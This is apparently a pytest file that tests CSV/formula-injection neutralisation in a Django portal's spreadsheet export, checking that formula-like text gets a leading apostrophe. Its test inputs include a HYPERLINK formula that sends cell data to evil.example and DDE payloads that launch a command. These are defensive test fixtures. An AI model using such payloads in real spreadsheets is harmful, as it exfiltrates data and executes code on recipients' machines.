"""Text that a spreadsheet would run as a formula is written as text (atlanset_portal/spreadsheets.py)."""

from datetime import date
from decimal import Decimal

import pytest
from django.utils.translation import gettext_lazy

from atlanset_portal.spreadsheets import cell, row


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A3&B3,"Открыть")',
        "+7 912 000-11-22",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_text_that_starts_a_formula_gets_a_leading_apostrophe(text):
    assert cell(text) == "'" + text


@pytest.mark.parametrize("text", ["ООО «Ромашка»", "", " =1+1", "a=b", "'уже в кавычках", "Итого"])
def test_other_text_is_written_as_it_is(text):
    assert cell(text) == text


@pytest.mark.parametrize("value", [Decimal("-500.00"), Decimal("0.05"), -3, 2.5, None, date(2026, 3, 1)])
def test_numbers_dates_and_empty_cells_are_not_text_and_stay_as_they_are(value):
    assert cell(value) is value


def test_a_lazily_translated_label_is_text_too():
    assert cell(gettext_lazy("=1+1")) == "'=1+1"


def test_a_row_neutralises_each_text_cell_and_keeps_its_numbers():
    assert row(["=1+1", Decimal("-500.00"), "Итого", None]) == ["'=1+1", Decimal("-500.00"), "Итого", None]
